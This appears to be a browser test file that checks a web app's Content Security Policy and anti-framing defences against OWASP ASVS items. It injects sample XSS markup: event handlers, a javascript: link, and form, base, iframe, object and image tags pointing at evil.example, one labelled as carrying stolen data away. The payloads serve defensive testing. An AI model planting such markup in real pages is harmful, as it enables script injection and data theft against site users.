import { expect, THOROUGH, test } from '../support/browser.ts'

// Chromium tells of each thing it has stopped.
test.use({ tolerated: /Content Security Policy|status of 401/ })

/** An attempt of somebody who can put markup into a page, and the rule that stops it. */
const MARKUP: [string, string, string][] = [
  ['an event handler', '<button onclick="window.ran = true">x</button>', 'script-src-attr'],
  ['a link that is a script', '<a href="javascript:window.ran = true">x</a>', 'script-src-elem'],
  ['a form to another site', '<form action="https://evil.example/"><button>x</button></form>', 'form-action'],
  ['a base for all links', '<base href="https://evil.example/">', 'base-uri'],
  ['a frame', '<iframe src="https://evil.example/"></iframe>', 'frame-src'],
  ['a plugin', '<object data="https://evil.example/x"></object>', 'object-src'],
  ['an image that carries data away', '<img src="https://evil.example/?stolen">', 'img-src'],
]

for (const [what, markup, rule] of MARKUP) {
  test(`ASVS 3.4.3: ${what}, slipped into a page, does nothing`, THOROUGH, async ({ page }) => {
    await page.goto('/login')
    const stopped = await page.evaluate((html) => {
      const told = new Promise<string>((resolve) =>
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
          once: true,
        }),
      )
      const holder = document.createElement('div')
      holder.innerHTML = html
      document.body.append(holder)
      holder.querySelector('a')?.click()
      holder.querySelector('button')?.click()
      return told
    }, markup)
    expect(stopped).toBe(rule)
    expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  })
}

test('ASVS 3.4.3: a script in the page without its nonce does not run', async ({ page }) => {
  await page.route('**/login', async (route) => {
    const response = await route.fetch()
    const slippedIn = '<p id="slipped-in"></p><script>window.ran = true</script></body>'
    await route.fulfill({ response, body: (await response.text()).replace('</body>', slippedIn) })
  })
  await page.goto('/login')
  await expect(page.locator('#slipped-in')).toBeAttached()
  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
})

test('ASVS 3.4.3: nothing is evaluated from text', THOROUGH, async ({ page }) => {
  await page.goto('/login')
  // In a task of the page's own: the policy does not hold what a debugger evaluates.
  const outcome = await page.evaluate(
    () =>
      new Promise((resolve) => {
        setTimeout(() => {
          try {
            resolve(new Function('return 1')())
          } catch (error) {
            resolve((error as Error).name)
          }
        })
      }),
  )
  expect(outcome).toBe('EvalError')
})

test('ASVS 3.4.6: no other page can hold one of ours in a frame', THOROUGH, async ({ page, stack }) => {
  await page.route('http://holder.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${stack.app.url}/login"></iframe>` }),
  )
  await page.goto('http://holder.example/')
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/)
  await expect(page.frameLocator('iframe').getByLabel('Password')).toHaveCount(0)
})
